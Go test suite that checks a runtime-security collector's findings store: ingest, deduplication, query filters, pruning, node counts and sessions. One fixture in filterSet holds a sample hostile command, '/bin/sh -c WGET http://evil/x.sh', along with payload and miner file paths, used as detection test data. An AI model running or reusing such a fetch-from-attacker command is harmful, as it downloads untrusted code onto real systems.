package storetest

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
	"github.com/loupe-dev/loupe/collector/store"
)

// Run runs the conformance suite against stores made by open (a fresh,
// empty store for each call).
func Run(t *testing.T, open func(t *testing.T) store.Store) {
	t.Run("IngestQueryRoundTrip", func(t *testing.T) { testRoundTrip(t, open(t)) })
	t.Run("Idempotent", func(t *testing.T) { testIdempotent(t, open(t)) })
	t.Run("Filters", func(t *testing.T) { testFilters(t, open(t)) })
	t.Run("OrderAndLimit", func(t *testing.T) { testOrderLimit(t, open(t)) })
	t.Run("Nodes", func(t *testing.T) { testNodes(t, open(t)) })
	t.Run("Prune", func(t *testing.T) { testPrune(t, open(t)) })
	t.Run("InvalidQuery", func(t *testing.T) { testInvalid(t, open(t)) })
	t.Run("ConcurrentSameBatch", func(t *testing.T) { testConcurrentSameBatch(t, open(t)) })
	t.Run("GetAndCounts", func(t *testing.T) { testGetCounts(t, open(t)) })
	t.Run("User", func(t *testing.T) { testUser(t, open(t)) })
	t.Run("Sessions", func(t *testing.T) { testSessions(t, open(t)) })
	t.Run("Ping", func(t *testing.T) {
		if err := open(t).Ping(context.Background()); err != nil {
			t.Fatal(err)
		}
	})
}

// testConcurrentSameBatch sends overlapping batches from several goroutines
// at once, as replicas do when an agent resends its spool to another one
// while the first is still committing: every finding is stored once, the
// Stored counts add up, and the node counts match.
func testConcurrentSameBatch(t *testing.T, s store.Store) {
	rng := newRand(7)
	var all []*loupev1.Finding
	for i := range 600 {
		all = append(all, Realistic(rng, t0.Add(time.Duration(i)*time.Millisecond), "n1"))
	}
	const senders = 6
	results := make(chan store.IngestResult, senders)
	errs := make(chan error, senders)
	for g := range senders {
		go func() {
			// Each sender sends the whole set in its own order and batch sizes.
			fs := slices.Clone(all)
			if g%2 == 1 {
				slices.Reverse(fs)
			}
			var total store.IngestResult
			for len(fs) > 0 {
				n := min(len(fs), 50+g*37)
				res, err := s.Ingest(context.Background(), store.NodeInfo{Name: "n1", AgentVersion: "v1", Seen: time.Now()}, fs[:n])
				if err != nil {
					errs <- err
					return
				}
				total.Stored += res.Stored
				total.Duplicates += res.Duplicates
				fs = fs[n:]
			}
			results <- total
		}()
	}
	stored, dups := 0, 0
	for range senders {
		select {
		case err := <-errs:
			t.Fatalf("concurrent ingest: %v", err)
		case r := <-results:
			stored += r.Stored
			dups += r.Duplicates
		}
	}
	if stored != len(all) || dups != (senders-1)*len(all) {
		t.Fatalf("stored %d, duplicates %d; want %d and %d", stored, dups, len(all), (senders-1)*len(all))
	}
	got := QueryAll(t, s, &loupev1.QueryRequest{Limit: store.MaxLimit})
	seen := map[string]bool{}
	for _, f := range got {
		if seen[f.GetId()] {
			t.Fatalf("finding %s stored twice", f.GetId())
		}
		seen[f.GetId()] = true
	}
	if len(seen) != len(all) {
		t.Fatalf("store holds %d findings, want %d", len(seen), len(all))
	}
	nodes, err := s.Nodes(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(nodes) != 1 || nodes[0].GetFindings() != int64(len(all)) {
		t.Fatalf("nodes = %v, want n1 with %d findings", nodes, len(all))
	}
}

// QueryAll runs q and returns every finding.
func QueryAll(t testing.TB, s store.Store, q *loupev1.QueryRequest) []*loupev1.Finding {
	t.Helper()
	var out []*loupev1.Finding
	if err := s.Query(context.Background(), q, func(f *loupev1.Finding) error {
		out = append(out, f)
		return nil
	}); err != nil {
		t.Fatalf("query %v: %v", q, err)
	}
	return out
}

func ids(fs []*loupev1.Finding) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.GetId()
	}
	return out
}

func mustIngest(t *testing.T, s store.Store, node string, fs ...*loupev1.Finding) store.IngestResult {
	t.Helper()
	res, err := s.Ingest(context.Background(), store.NodeInfo{Name: node, AgentVersion: "v1.2.3", Seen: time.Now()}, fs)
	if err != nil {
		t.Fatalf("ingest: %v", err)
	}
	return res
}

var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func testRoundTrip(t *testing.T, s store.Store) {
	rng := newRand(1)
	var in []*loupev1.Finding
	for i := range 20 {
		in = append(in, Realistic(rng, t0.Add(time.Duration(i)*time.Second), "node-a"))
	}
	res := mustIngest(t, s, "node-a", in...)
	if res.Stored != 20 || res.Duplicates != 0 || len(res.Inserted) != 20 {
		t.Fatalf("ingest result = %+v, want 20 stored", res)
	}
	got := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST})
	if len(got) != 20 {
		t.Fatalf("query returned %d findings, want 20", len(got))
	}
	for i := range in {
		if !proto.Equal(in[i], got[i]) {
			t.Fatalf("finding %d changed in the store:\n in: %v\nout: %v", i, in[i], got[i])
		}
	}
}

func testIdempotent(t *testing.T, s store.Store) {
	a := Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH)
	b := Finding(t0.Add(time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)
	if res := mustIngest(t, s, "n1", a, b); res.Stored != 2 {
		t.Fatalf("first ingest stored %d, want 2", res.Stored)
	}
	// The same batch again (an agent retrying after a lost ack), plus a new
	// finding and a duplicate inside the batch.
	c := Finding(t0.Add(2*time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)
	changed := proto.Clone(a).(*loupev1.Finding)
	changed.Summary = "a different summary under the same id"
	res := mustIngest(t, s, "n1", changed, b, c, c)
	if res.Stored != 1 || res.Duplicates != 3 {
		t.Fatalf("re-ingest = stored %d duplicates %d, want 1 and 3", res.Stored, res.Duplicates)
	}
	if want := []bool{false, false, true, false}; !slices.Equal(res.Inserted, want) {
		t.Fatalf("Inserted = %v, want %v", res.Inserted, want)
	}
	got := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST})
	if len(got) != 3 {
		t.Fatalf("store holds %d findings, want 3", len(got))
	}
	if got[0].GetSummary() != a.GetSummary() {
		t.Fatalf("a duplicate overwrote the stored finding: %q", got[0].GetSummary())
	}
	nodes, err := s.Nodes(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(nodes) != 1 || nodes[0].GetFindings() != 3 {
		t.Fatalf("nodes = %v, want n1 with 3 findings (duplicates not counted)", nodes)
	}
}

// filterSet is a dataset where every filter selects a known subset.
func filterSet() []*loupev1.Finding {
	mk := func(sec int, node string, kind loupev1.Kind, sev loupev1.Severity, ns, pod, cid, image string) *loupev1.Finding {
		f := Finding(t0.Add(time.Duration(sec)*time.Second), node, kind, sev)
		f.Container = &loupev1.ContainerRef{Id: cid, Namespace: ns, Pod: pod, Image: image, Name: "app"}
		return f
	}
	fs := []*loupev1.Finding{
		0: mk(0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH, "payments", "api-7d4f-abc", "aaaa1111", "registry.example.com/payments/api:v1"),
		1: mk(10, "n1", loupev1.Kind_KIND_EXEC_FAILED, loupev1.Severity_SEVERITY_MEDIUM, "payments", "api-7d4f-def", "aaaa2222", "registry.example.com/payments/api:v2"),
		2: mk(20, "n2", loupev1.Kind_KIND_PACKAGE, loupev1.Severity_SEVERITY_INFO, "search", "worker-1", "bbbb1111", "docker.io/library/alpine:3.20"),
		3: mk(30, "n2", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_CRITICAL, "search", "worker-2", "bbbb2222", "gcr.io/distroless/static"),
		4: mk(40, "n3", loupev1.Kind_KIND_DRIFT_FILE, loupev1.Severity_SEVERITY_LOW, "default", "web[1]?x", "cccc1111", "nginx:1.27"),
	}
	fs[0].Process = &loupev1.Process{Filename: "/bin/sh", Argv: []string{"/bin/sh", "-c", "WGET http://evil/x.sh"}}
	fs[1].Process = &loupev1.Process{Filename: "/bin/bash", Argv: []string{"bash"}, Errno: 2}
	fs[2].Package = &loupev1.Package{Name: "OpenSSL", Version: "3.0.1"}
	fs[3].File = &loupev1.File{Path: "/tmp/payload", Sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}
	fs[3].Summary = "shell spawned by a Wget download"
	fs[4].File = &loupev1.File{Path: "/usr/local/bin/miner", Sha256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}
	return fs
}

func testFilters(t *testing.T, s store.Store) {
	fs := filterSet()
	mustIngest(t, s, "n1", fs...)
	ts := func(sec int) *timestamppb.Timestamp { return timestamppb.New(t0.Add(time.Duration(sec) * time.Second)) }
	cases := []struct {
		name string
		q    *loupev1.QueryRequest
		want []int
	}{
		{"all", &loupev1.QueryRequest{}, []int{0, 1, 2, 3, 4}},
		{"since", &loupev1.QueryRequest{Since: ts(20)}, []int{2, 3, 4}},
		{"until is exclusive", &loupev1.QueryRequest{Until: ts(20)}, []int{0, 1}},
		{"time range", &loupev1.QueryRequest{Since: ts(10), Until: ts(31)}, []int{1, 2, 3}},
		{"one kind", &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_EXEC}}, []int{0, 3}},
		{"kinds", &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_EXEC_FAILED, loupev1.Kind_KIND_DRIFT_FILE}}, []int{1, 4}},
		{"min severity", &loupev1.QueryRequest{MinSeverity: loupev1.Severity_SEVERITY_HIGH}, []int{0, 3}},
		{"min severity info is everything", &loupev1.QueryRequest{MinSeverity: loupev1.Severity_SEVERITY_INFO}, []int{0, 1, 2, 3, 4}},
		{"nodes", &loupev1.QueryRequest{Nodes: []string{"n2", "n3"}}, []int{2, 3, 4}},
		{"namespace", &loupev1.QueryRequest{Namespace: "payments"}, []int{0, 1}},
		{"pod exact", &loupev1.QueryRequest{Pod: "worker-1"}, []int{2}},
		{"pod glob", &loupev1.QueryRequest{Pod: "api-*"}, []int{0, 1}},
		{"pod glob middle", &loupev1.QueryRequest{Pod: "*-7d4f-d*"}, []int{1}},
		{"pod glob metacharacters are literal", &loupev1.QueryRequest{Pod: "web[1]?*"}, []int{4}},
		{"pod glob ? is literal", &loupev1.QueryRequest{Pod: "web?1*"}, nil},
		{"container prefix", &loupev1.QueryRequest{ContainerId: "aaaa"}, []int{0, 1}},
		{"container full id", &loupev1.QueryRequest{ContainerId: "bbbb2222"}, []int{3}},
		{"image exact", &loupev1.QueryRequest{Image: "nginx:1.27"}, []int{4}},
		{"image glob", &loupev1.QueryRequest{Image: "registry.example.com/payments/*"}, []int{0, 1}},
		{"image glob suffix", &loupev1.QueryRequest{Image: "*:3.20"}, []int{2}},
		{"sha256", &loupev1.QueryRequest{Sha256: "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}, []int{3}},
		{"sha256 with prefix", &loupev1.QueryRequest{Sha256: "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}, []int{4}},
		{"grep argv case-insensitive", &loupev1.QueryRequest{Grep: "wget"}, []int{0, 3}},
		{"grep filename", &loupev1.QueryRequest{Grep: "/bin/bash"}, []int{1}},
		{"grep file path", &loupev1.QueryRequest{Grep: "MINER"}, []int{4}},
		{"grep package", &loupev1.QueryRequest{Grep: "openssl"}, []int{2}},
		{"grep no match", &loupev1.QueryRequest{Grep: "nothing-like-this"}, nil},
		{"far-future until", &loupev1.QueryRequest{Until: timestamppb.New(time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC))}, []int{0, 1, 2, 3, 4}},
		{"far-past since", &loupev1.QueryRequest{Since: timestamppb.New(time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC))}, []int{0, 1, 2, 3, 4}},
		{"combined", &loupev1.QueryRequest{Namespace: "search", MinSeverity: loupev1.Severity_SEVERITY_HIGH, Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_EXEC}, Since: ts(1)}, []int{3}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			c.q.Order = loupev1.Order_ORDER_OLDEST_FIRST
			got := ids(QueryAll(t, s, c.q))
			var want []string
			for _, i := range c.want {
				want = append(want, fs[i].GetId())
			}
			if !slices.Equal(got, want) {
				t.Fatalf("got %v\nwant %v", got, want)
			}
			// store.Match, the in-memory filter of the collector's join, agrees.
			var matched []string
			for _, f := range fs {
				if store.Match(c.q, f) {
					matched = append(matched, f.GetId())
				}
			}
			if !slices.Equal(matched, want) {
				t.Fatalf("store.Match: %v\nwant %v", matched, want)
			}
		})
	}
}

func testOrderLimit(t *testing.T, s store.Store) {
	var in []*loupev1.Finding
	for i := range 50 {
		// Shuffled times: storage order must not decide result order.
		sec := (i * 37) % 50
		in = append(in, Finding(t0.Add(time.Duration(sec)*time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO))
	}
	mustIngest(t, s, "n1", in...)
	times := func(fs []*loupev1.Finding) []int64 {
		out := make([]int64, len(fs))
		for i, f := range fs {
			out[i] = f.GetTime().AsTime().UnixNano()
		}
		return out
	}
	newest := QueryAll(t, s, &loupev1.QueryRequest{})
	if len(newest) != 50 || !sort.SliceIsSorted(newest, func(i, j int) bool { return newest[i].GetTime().AsTime().After(newest[j].GetTime().AsTime()) }) {
		t.Fatalf("default order is not newest first: %v", times(newest))
	}
	oldest := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST, Limit: 7})
	if len(oldest) != 7 {
		t.Fatalf("limit 7 returned %d", len(oldest))
	}
	for i, f := range oldest {
		if want := t0.Add(time.Duration(i) * time.Second); !f.GetTime().AsTime().Equal(want) {
			t.Fatalf("oldest-first #%d at %v, want %v", i, f.GetTime().AsTime(), want)
		}
	}
	top := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_NEWEST_FIRST, Limit: 3})
	if len(top) != 3 || !top[0].GetTime().AsTime().Equal(t0.Add(49*time.Second)) {
		t.Fatalf("newest-first limit 3 = %v", times(top))
	}
	// Stopping early: an error from the callback ends the query and is returned.
	stop := errors.New("stop")
	n := 0
	err := s.Query(context.Background(), &loupev1.QueryRequest{}, func(*loupev1.Finding) error {
		n++
		if n == 5 {
			return stop
		}
		return nil
	})
	if !errors.Is(err, stop) || n != 5 {
		t.Fatalf("callback error: got %v after %d findings, want stop after 5", err, n)
	}
	// Default limit.
	var many []*loupev1.Finding
	for i := range store.DefaultLimit + 10 {
		many = append(many, Finding(t0.Add(time.Hour+time.Duration(i)*time.Millisecond), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO))
	}
	mustIngest(t, s, "n1", many...)
	if got := QueryAll(t, s, &loupev1.QueryRequest{}); len(got) != store.DefaultLimit {
		t.Fatalf("limit 0 returned %d, want the default %d", len(got), store.DefaultLimit)
	}
}

func testNodes(t *testing.T, s store.Store) {
	ctx := context.Background()
	if nodes, err := s.Nodes(ctx); err != nil || len(nodes) != 0 {
		t.Fatalf("empty store: nodes %v, err %v", nodes, err)
	}
	seen1 := time.Now().Add(-time.Minute).Truncate(time.Microsecond)
	fs := []*loupev1.Finding{
		Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH),
		Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH),
		Finding(t0, "n1", loupev1.Kind_KIND_PACKAGE, loupev1.Severity_SEVERITY_INFO),
	}
	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n1", AgentVersion: "v1", Seen: seen1}, fs); err != nil {
		t.Fatal(err)
	}
	seen2 := seen1.Add(30 * time.Second)
	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n1", AgentVersion: "v2", Seen: seen2}, []*loupev1.Finding{Finding(t0, "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)}); err != nil {
		t.Fatal(err)
	}
	// An empty batch (a heartbeat) from another node registers it.
	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n0", AgentVersion: "v1", Seen: seen2}, nil); err != nil {
		t.Fatal(err)
	}
	// A replay of another node's findings by an admin client counts them
	// under their own node.
	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "admin"}, []*loupev1.Finding{Finding(t0, "n9", loupev1.Kind_KIND_SUID, loupev1.Severity_SEVERITY_LOW)}); err != nil {
		t.Fatal(err)
	}
	nodes, err := s.Nodes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, n := range nodes {
		names = append(names, n.GetName())
	}
	if !slices.Equal(names, []string{"admin", "n0", "n1", "n9"}) {
		t.Fatalf("nodes = %v", names)
	}
	n1 := nodes[2]
	if n1.GetAgentVersion() != "v2" || n1.GetFindings() != 4 {
		t.Fatalf("n1 = %v, want version v2 and 4 findings", n1)
	}
	if !n1.GetFirstSeen().AsTime().Equal(seen1) || !n1.GetLastSeen().AsTime().Equal(seen2) {
		t.Fatalf("n1 first/last seen = %v / %v, want %v / %v", n1.GetFirstSeen().AsTime(), n1.GetLastSeen().AsTime(), seen1, seen2)
	}
	wantKinds := map[string]int64{"SHELL_EXEC": 2, "PACKAGE": 1, "EXEC": 1}
	if len(n1.GetFindingsByKind()) != len(wantKinds) {
		t.Fatalf("n1 by kind = %v, want %v", n1.GetFindingsByKind(), wantKinds)
	}
	for k, v := range wantKinds {
		if n1.GetFindingsByKind()[k] != v {
			t.Fatalf("n1 by kind = %v, want %v", n1.GetFindingsByKind(), wantKinds)
		}
	}
	if n9 := nodes[3]; n9.GetFindings() != 1 || n9.GetFindingsByKind()["SUID"] != 1 || !n9.GetLastSeen().AsTime().Equal(t0) {
		t.Fatalf("n9 = %v, want 1 SUID finding last seen at its finding time", n9)
	}
	if nodes[1].GetFindings() != 0 || nodes[0].GetFindings() != 0 {
		t.Fatalf("n0/admin should have no findings: %v %v", nodes[0], nodes[1])
	}
}

func testPrune(t *testing.T, s store.Store) {
	ctx := context.Background()
	var in []*loupev1.Finding
	for i := range 12000 { // more than one prune batch
		k := loupev1.Kind_KIND_EXEC
		if i%2 == 0 {
			k = loupev1.Kind_KIND_PACKAGE
		}
		in = append(in, Finding(t0.Add(time.Duration(i)*time.Second), "n1", k, loupev1.Severity_SEVERITY_INFO))
	}
	mustIngest(t, s, "n1", in...)
	cut := t0.Add(11000 * time.Second)
	n, err := s.Prune(ctx, cut)
	if err != nil {
		t.Fatal(err)
	}
	if n != 11000 {
		t.Fatalf("pruned %d, want 11000", n)
	}
	left := QueryAll(t, s, &loupev1.QueryRequest{Limit: store.MaxLimit, Order: loupev1.Order_ORDER_OLDEST_FIRST})
	if len(left) != 1000 || !left[0].GetTime().AsTime().Equal(cut) {
		t.Fatalf("after prune: %d findings, first at %v; want 1000 from %v", len(left), left[0].GetTime().AsTime(), cut)
	}
	nodes, err := s.Nodes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if nodes[0].GetFindings() != 1000 || nodes[0].GetFindingsByKind()["EXEC"] != 500 || nodes[0].GetFindingsByKind()["PACKAGE"] != 500 {
		t.Fatalf("node counts after prune = %v", nodes[0])
	}
	if n, err := s.Prune(ctx, cut); err != nil || n != 0 {
		t.Fatalf("second prune = %d, %v; want 0", n, err)
	}
}

func testInvalid(t *testing.T, s store.Store) {
	for name, q := range map[string]*loupev1.QueryRequest{
		"short container prefix": {ContainerId: "abc"},
		"limit too large":        {Limit: store.MaxLimit + 1},
		"unknown kind":           {Kinds: []loupev1.Kind{99}},
		"unspecified kind":       {Kinds: []loupev1.Kind{0}},
		"bad since":              {Since: &timestamppb.Timestamp{Seconds: -1 << 62}},
		"huge pod glob":          {Pod: strings.Repeat("*a", store.MaxFilterLen)},
		"too many nodes":         {Nodes: make([]string, store.MaxFilterValues+1)},
	} {
		err := s.Query(context.Background(), q, func(*loupev1.Finding) error { return nil })
		if !errors.Is(err, store.ErrInvalidQuery) {
			t.Errorf("%s: err = %v, want ErrInvalidQuery", name, err)
		}
	}
}

func testGetCounts(t *testing.T, s store.Store) {
	ctx := context.Background()
	fs := filterSet()
	mustIngest(t, s, "n1", fs...)
	got, err := s.Get(ctx, fs[3].GetId())
	if err != nil || !proto.Equal(got, fs[3]) {
		t.Fatalf("Get = %v, %v; want %v", got, err, fs[3])
	}
	for _, id := range []string{NewID(), "not-a-uuid", ""} {
		if _, err := s.Get(ctx, id); !errors.Is(err, store.ErrNotFound) {
			t.Errorf("Get(%q) = %v, want ErrNotFound", id, err)
		}
	}
	// One more SHELL_EXEC/HIGH an hour later; the window leaves out the last finding.
	late := Finding(t0.Add(time.Hour+time.Minute), "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH)
	mustIngest(t, s, "n1", late)
	counts, err := s.Counts(ctx, t0, t0.Add(2*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, c := range counts {
		lines = append(lines, fmt.Sprintf("%s %s %s %d", c.Hour.Format("15:04"), c.Kind.ShortName(), c.Severity.ShortName(), c.N))
	}
	want := []string{"12:00 SHELL_EXEC HIGH 1", "12:00 EXEC_FAILED MEDIUM 1", "12:00 DRIFT_FILE LOW 1", "12:00 PACKAGE INFO 1", "12:00 SHELL_EXEC CRITICAL 1", "13:00 SHELL_EXEC HIGH 1"}
	sort.Strings(lines)
	sort.Strings(want)
	if !slices.Equal(lines, want) {
		t.Fatalf("counts = %v\nwant %v", lines, want)
	}
	if counts, err := s.Counts(ctx, t0.Add(time.Hour), t0.Add(time.Hour+time.Minute)); err != nil || len(counts) != 0 {
		t.Fatalf("until is exclusive: %v, %v", counts, err)
	}
	if _, err := s.Counts(ctx, t0, t0.Add(40*24*time.Hour)); !errors.Is(err, store.ErrInvalidQuery) {
		t.Fatalf("a 40-day span: %v", err)
	}
}

// testUser checks the Kubernetes user filter (the k8s_user column, set from
// the audit record of K8S_* findings) and that audit findings, which have no
// node, add no node entry.
func testUser(t *testing.T, s store.Store) {
	mk := func(sec int, user string) *loupev1.Finding {
		f := Finding(t0.Add(time.Duration(sec)*time.Second), "", loupev1.Kind_KIND_K8S_EXEC, loupev1.Severity_SEVERITY_HIGH)
		f.Container = &loupev1.ContainerRef{Namespace: "payments", Pod: "api-1", Name: "app"}
		f.Audit = &loupev1.K8SAudit{AuditId: NewID(), User: user, Command: []string{"sh"}}
		f.K8SUser = user
		return f
	}
	node := Finding(t0.Add(5*time.Second), "n1", loupev1.Kind_KIND_RUNTIME_EXEC_FAILED, loupev1.Severity_SEVERITY_HIGH)
	fs := []*loupev1.Finding{mk(0, "alice@corp.example"), mk(10, "bob@corp.example"), mk(20, "system:serviceaccount:ci:deployer"), node}
	if _, err := s.Ingest(context.Background(), store.NodeInfo{}, fs); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		user string
		want []int
	}{{"alice@corp.example", []int{0}}, {"*@corp.example", []int{0, 1}}, {"system:serviceaccount:*", []int{2}}, {"carol", nil}, {"*", []int{0, 1, 2}}} {
		got := ids(QueryAll(t, s, &loupev1.QueryRequest{User: c.user, Order: loupev1.Order_ORDER_OLDEST_FIRST}))
		var want []string
		for _, i := range c.want {
			want = append(want, fs[i].GetId())
		}
		if !slices.Equal(got, want) {
			t.Errorf("user %q: got %v, want %v", c.user, got, want)
		}
	}
	got := QueryAll(t, s, &loupev1.QueryRequest{User: "alice@corp.example"})
	if len(got) != 1 || got[0].GetAudit().GetUser() != "alice@corp.example" || got[0].GetAudit().GetCommand()[0] != "sh" {
		t.Errorf("audit record not stored whole: %v", got)
	}
	nodes, err := s.Nodes(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(nodes) != 1 || nodes[0].GetName() != "n1" {
		t.Errorf("nodes after audit findings: %v (want only n1)", nodes)
	}
}

// testSessions: batches (heartbeats included) less than store.SessionGap
// apart make one session; a longer silence starts another; batches out of
// order (several replicas) still merge; only the sender gets sessions;
// Prune drops the sessions that ended before its cut-off.
func testSessions(t *testing.T, s store.Store) {
	ctx := context.Background()
	base := t0.Add(time.Hour)
	at := func(d time.Duration) time.Time { return base.Add(d) }
	beat := func(node string, d time.Duration, fs ...*loupev1.Finding) {
		t.Helper()
		if _, err := s.Ingest(ctx, store.NodeInfo{Name: node, AgentVersion: "v1", Seen: at(d)}, fs); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range []time.Duration{0, 30 * time.Second, 60 * time.Second, 90 * time.Second} {
		beat("n1", d)
	}
	beat("n1", 10*time.Minute, Finding(at(10*time.Minute), "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH))
	beat("n1", 10*time.Minute+30*time.Second)
	// out of order: 11:30 then 11:00 (another replica's older batch), then 12:00
	beat("n1", 11*time.Minute+30*time.Second)
	beat("n1", 11*time.Minute)
	beat("n1", 12*time.Minute)
	beat("n2", 5*time.Minute)
	beat("n2", 4*time.Minute+30*time.Second) // older than the session it belongs to: merged on read
	// a replay by a client that is not an agent records no session
	if _, err := s.Ingest(ctx, store.NodeInfo{}, []*loupev1.Finding{Finding(at(time.Minute), "n3", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)}); err != nil {
		t.Fatal(err)
	}

	got, err := s.Sessions(ctx, []string{"n1", "n2", "n3"}, base.Add(-time.Hour), at(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	want := []store.Session{
		{Node: "n1", Start: at(0), End: at(90 * time.Second)},
		{Node: "n1", Start: at(10 * time.Minute), End: at(12 * time.Minute)},
		{Node: "n2", Start: at(4*time.Minute + 30*time.Second), End: at(5 * time.Minute)},
	}
	if !sessionsEqual(got, want) {
		t.Fatalf("sessions\n got %v\nwant %v", got, want)
	}
	// A range inside the silence overlaps no session; one touching the
	// second session's end returns it alone.
	if got, err := s.Sessions(ctx, []string{"n1"}, at(3*time.Minute), at(8*time.Minute)); err != nil || len(got) != 0 {
		t.Fatalf("sessions in the silence: %v %v", got, err)
	}
	if got, err := s.Sessions(ctx, []string{"n1"}, at(11*time.Minute), at(13*time.Minute)); err != nil || !sessionsEqual(got, want[1:2]) {
		t.Fatalf("sessions from 11m: %v %v", got, err)
	}
	for _, bad := range []struct {
		nodes        []string
		since, until time.Time
	}{{nil, base, at(time.Hour)}, {[]string{"n1"}, at(time.Hour), base}} {
		if _, err := s.Sessions(ctx, bad.nodes, bad.since, bad.until); !errors.Is(err, store.ErrInvalidQuery) {
			t.Errorf("Sessions(%v, %v, %v) = %v, want ErrInvalidQuery", bad.nodes, bad.since, bad.until, err)
		}
	}

	if _, err := s.Prune(ctx, at(5*time.Minute)); err != nil {
		t.Fatal(err)
	}
	got, err = s.Sessions(ctx, []string{"n1", "n2"}, base.Add(-time.Hour), at(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	// n2's record of 4m30s ended before the cut-off, its record of 5m did not
	want = []store.Session{want[1], {Node: "n2", Start: at(5 * time.Minute), End: at(5 * time.Minute)}}
	if !sessionsEqual(got, want) {
		t.Fatalf("after prune at 5m: %v, want %v", got, want)
	}
}

func sessionsEqual(a, b []store.Session) bool {
	return slices.EqualFunc(a, b, func(x, y store.Session) bool {
		return x.Node == y.Node && x.Start.Equal(y.Start) && x.End.Equal(y.End)
	})
}
